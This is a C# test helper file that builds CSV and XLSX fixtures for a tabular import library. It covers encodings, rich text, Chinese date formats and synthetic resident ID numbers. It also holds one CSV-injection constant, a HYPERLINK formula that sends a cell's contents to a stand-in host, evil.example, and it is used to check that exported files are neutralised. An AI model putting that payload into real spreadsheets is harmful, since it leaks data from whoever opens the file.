using System.Text;
using Collection.Files;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace Collection.Files.Tests;

/// <summary>Builds the files people upload, in every encoding and format, for the file tests.</summary>
internal static class TestFiles
{
    private static readonly int[] Weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
    private const string CheckDigits = "10X98765432";

    public static Encoding Gb18030
    {
        get
        {
            Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
            return Encoding.GetEncoding("GB18030");
        }
    }

    /// <summary>A resident ID number with a correct ISO 7064 MOD 11-2 check digit.</summary>
    public static string IdNumber(string region, DateOnly birth, int sequence)
    {
        var body = $"{region}{birth:yyyyMMdd}{sequence % 1000:D3}";
        var sum = 0;
        for (var i = 0; i < 17; i++)
        {
            sum += (body[i] - '0') * Weights[i];
        }

        return body + CheckDigits[sum % 11];
    }

    public static MemoryStream Csv(string text, Encoding encoding, bool bom = false)
    {
        var stream = new MemoryStream();
        if (bom)
        {
            stream.Write(encoding.GetPreamble());
        }

        stream.Write(encoding.GetBytes(text));
        stream.Position = 0;
        return stream;
    }

    public static Stream NonSeekable(Stream inner) => new ForwardOnlyStream(inner);

    public static List<RawRow> ReadAll(Stream stream, string fileName)
    {
        using var reader = TabularReader.Open(stream, fileName);
        return [.. reader.ReadRows()];
    }

    public static (List<TabularRow> Rows, TabularFile File) ReadFile(Stream stream, string fileName, FileLayout layout)
    {
        var file = TabularFile.Open(stream, fileName, layout);
        return ([.. file.ReadRows()], file);
    }

    /// <summary>A cell someone typed to run in whoever opens the file (OWASP CSV injection).</summary>
    public const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";

    /// <summary>A cell as it goes into a hand-written CSV line: quoted, inner quotes doubled.</summary>
    public static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>
    /// Reads a CSV the system wrote as Excel would and asserts no cell starts a formula: the only cells
    /// allowed to start with one of = + - @ tab CR are the <c>="digits"</c> text wrapper and plain numbers.
    /// Returns the raw cells, for the caller to find the neutralised ones.
    /// </summary>
    public static List<string> AssertOpensWithoutFormulas(byte[] csv)
    {
        var cells = ReadAll(new MemoryStream(csv), "written.csv").SelectMany(r => r.Cells).ToList();
        Assert.All(cells, cell =>
        {
            if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
            {
                Assert.Matches(@"^(=""\d+""|[+-]\d+(\.\d+)?)$", cell);
            }
        });
        return cells;
    }

    public static TabularFileException OpenFails(Stream stream, string fileName, FileLayout? layout = null) =>
        Assert.Throws<TabularFileException>(() =>
        {
            using var file = TabularFile.Open(stream, fileName, layout ?? FileLayout.SchoolRoster);
            foreach (var unused in file.ReadRows())
            {
            }
        });

    /// <summary>One XLSX cell: text (shared or inline), a number, a date, or a boolean, at an explicit reference.</summary>
    public sealed record XCell(string Reference, object Value, bool Inline = false);

    /// <summary>Writes an XLSX with the SDK: shared strings, inline strings, numbers, a date style, sparse rows.</summary>
    public static MemoryStream Xlsx(IEnumerable<IReadOnlyList<XCell>> rows, string sheetName = "名册", bool hiddenFirstSheet = false)
    {
        var stream = new MemoryStream();
        using (var document = SpreadsheetDocument.Create(stream, SpreadsheetDocumentType.Workbook))
        {
            var workbookPart = document.AddWorkbookPart();
            workbookPart.Workbook = new Workbook();
            var styles = workbookPart.AddNewPart<WorkbookStylesPart>();
            styles.Stylesheet = new Stylesheet(
                new NumberingFormats(new NumberingFormat { NumberFormatId = 164, FormatCode = "yyyy\"年\"m\"月\"d\"日\"" }) { Count = 1 },
                new Fonts(new Font()) { Count = 1 },
                new Fills(new Fill(new PatternFill { PatternType = PatternValues.None })) { Count = 1 },
                new Borders(new Border()) { Count = 1 },
                new CellFormats(
                    new CellFormat { NumberFormatId = 0 },
                    new CellFormat { NumberFormatId = 14, ApplyNumberFormat = true },
                    new CellFormat { NumberFormatId = 164, ApplyNumberFormat = true }) { Count = 3 });
            var shared = workbookPart.AddNewPart<SharedStringTablePart>();
            shared.SharedStringTable = new SharedStringTable();
            var sharedIndex = new Dictionary<string, int>();
            var sheets = workbookPart.Workbook.AppendChild(new Sheets());
            uint sheetId = 1;
            if (hiddenFirstSheet)
            {
                var hidden = workbookPart.AddNewPart<WorksheetPart>();
                hidden.Worksheet = new Worksheet(new SheetData(new Row(new Cell { CellReference = "A1", DataType = CellValues.InlineString, InlineString = new InlineString(new Text("下拉选项")) }) { RowIndex = 1 }));
                sheets.Append(new Sheet { Id = workbookPart.GetIdOfPart(hidden), SheetId = sheetId++, Name = "选项", State = SheetStateValues.Hidden });
            }

            var worksheetPart = workbookPart.AddNewPart<WorksheetPart>();
            using (var writer = OpenXmlWriter.Create(worksheetPart))
            {
                writer.WriteStartElement(new Worksheet());
                writer.WriteStartElement(new SheetData());
                foreach (var row in rows)
                {
                    var rowIndex = uint.Parse(new string(row[0].Reference.SkipWhile(char.IsLetter).ToArray()), System.Globalization.CultureInfo.InvariantCulture);
                    writer.WriteStartElement(new Row { RowIndex = rowIndex });
                    foreach (var cell in row)
                    {
                        writer.WriteElement(MakeCell(cell, shared.SharedStringTable, sharedIndex));
                    }

                    writer.WriteEndElement();
                }

                writer.WriteEndElement();
                writer.WriteEndElement();
            }

            sheets.Append(new Sheet { Id = workbookPart.GetIdOfPart(worksheetPart), SheetId = sheetId, Name = sheetName });
        }

        stream.Position = 0;
        return stream;
    }

    /// <summary>Rows of cells from plain values, columns A, B, C… from row <paramref name="firstRow"/>.</summary>
    public static IEnumerable<IReadOnlyList<XCell>> Grid(int firstRow, params object[][] rows) =>
        rows.Select((values, r) => (IReadOnlyList<XCell>)values
            .Select((value, c) => new XCell($"{HeaderMap.ColumnName(c)}{firstRow + r}", value))
            .ToList());

    private static Cell MakeCell(XCell cell, SharedStringTable table, Dictionary<string, int> sharedIndex)
    {
        switch (cell.Value)
        {
            case string text when cell.Inline:
                return new Cell { CellReference = cell.Reference, DataType = CellValues.InlineString, InlineString = new InlineString(new Text(text)) };
            case string text:
                if (!sharedIndex.TryGetValue(text, out var index))
                {
                    index = table.ChildElements.Count;
                    sharedIndex[text] = index;
                    table.AppendChild(new SharedStringItem(new Text(text)));
                }

                return new Cell { CellReference = cell.Reference, DataType = CellValues.SharedString, CellValue = new CellValue(index.ToString(System.Globalization.CultureInfo.InvariantCulture)) };
            case RichText rich:
                var item = new SharedStringItem(rich.Runs.Select(run => new Run(new Text(run) { Space = SpaceProcessingModeValues.Preserve })));
                if (rich.Phonetic is { } phonetic)
                {
                    item.AppendChild(new PhoneticRun(new Text(phonetic)) { BaseTextStartIndex = 0, EndingBaseIndex = 1 });
                }

                table.AppendChild(item);
                return new Cell { CellReference = cell.Reference, DataType = CellValues.SharedString, CellValue = new CellValue((table.ChildElements.Count - 1).ToString(System.Globalization.CultureInfo.InvariantCulture)) };
            case bool flag:
                return new Cell { CellReference = cell.Reference, DataType = CellValues.Boolean, CellValue = new CellValue(flag ? "1" : "0") };
            case DateOnly date:
                var serial = (date.DayNumber - new DateOnly(1899, 12, 30).DayNumber).ToString(System.Globalization.CultureInfo.InvariantCulture);
                return new Cell { CellReference = cell.Reference, StyleIndex = 1, CellValue = new CellValue(serial) };
            case ChineseDate(var date):
                var chineseSerial = (date.DayNumber - new DateOnly(1899, 12, 30).DayNumber).ToString(System.Globalization.CultureInfo.InvariantCulture);
                return new Cell { CellReference = cell.Reference, StyleIndex = 2, CellValue = new CellValue(chineseSerial) };
            case StyledEmpty:
                return new Cell { CellReference = cell.Reference, StyleIndex = 1 };
            case RawNumber(var text):
                return new Cell { CellReference = cell.Reference, CellValue = new CellValue(text) };
            case decimal number:
                return new Cell { CellReference = cell.Reference, CellValue = new CellValue(number.ToString(System.Globalization.CultureInfo.InvariantCulture)) };
            case int number:
                return new Cell { CellReference = cell.Reference, CellValue = new CellValue(number.ToString(System.Globalization.CultureInfo.InvariantCulture)) };
            default:
                throw new ArgumentException($"Unsupported test cell value {cell.Value}", nameof(cell));
        }
    }

    /// <summary>A shared string written as rich-text runs (as Excel does for partly formatted text), with an optional phonetic run.</summary>
    public sealed record RichText(string[] Runs, string? Phonetic = null);

    /// <summary>A number cell whose stored text is given as Excel would write it (e.g. 1.10101199003074E+17).</summary>
    public sealed record RawNumber(string Text);

    /// <summary>A cell with a format and no value, as Excel leaves after formatting a whole row.</summary>
    public sealed record StyledEmpty;

    /// <summary>A date cell with a custom Chinese date format (yyyy"年"m"月"d"日").</summary>
    public sealed record ChineseDate(DateOnly Date);

    private sealed class ForwardOnlyStream(Stream inner) : Stream
    {
        public override bool CanRead => true;

        public override bool CanSeek => false;

        public override bool CanWrite => false;

        public override long Length => throw new NotSupportedException();

        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public override void Flush()
        {
        }

        // Hand out small, odd-sized pieces so multi-byte characters straddle reads.
        public override int Read(byte[] buffer, int offset, int count) => inner.Read(buffer, offset, Math.Min(count, 997));

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();

        protected override void Dispose(bool disposing)
        {
            if (disposing)
            {
                inner.Dispose();
            }

            base.Dispose(disposing);
        }
    }
}
